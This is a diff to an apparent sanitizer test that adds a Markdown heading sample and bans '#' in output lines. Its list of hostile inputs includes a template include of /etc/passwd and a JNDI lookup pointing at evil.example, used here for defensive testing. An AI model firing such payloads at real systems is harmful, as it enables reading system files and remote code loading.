@@ -23,6 +23,7 @@ HOSTILE = [
     "javascript:alert(1) data:text/html;base64,AAAA tel:+123",
     "**bold** __bold__ ~~no~~ `code` ||spoiler|| &lt;b&gt; &#60;",
     "right\u202eto left\u2066 zero\u200bwidth\u2060 \u2028new line\x00\x1b[31m",
+    "# Heading #channel",
     "{{ 7 * 7 }} {% include '/etc/passwd' %} ${jndi:ldap://evil.example}",
 ]
 LINKS = re.compile(r"(?i)(?:https?|ftp|ldap)://|\bwww\.|\b(?:mailto|javascript|data|tel):|\w\.[a-z]{2,}|@\w")
@@ -31,7 +32,7 @@ LINKS = re.compile(r"(?i)(?:https?|ftp|ldap)://|\bwww\.|\b(?:mailto|javascript|d
 def check(line: str) -> None:
     assert "\n" not in line
     assert "\r" not in line
-    assert not set(line) & set("<>[]*_`~|@\\&")
+    assert not set(line) & set("<>[]*_`~|@\\&#")
     assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for char in line)
     assert LINKS.search(line) is None, line
 
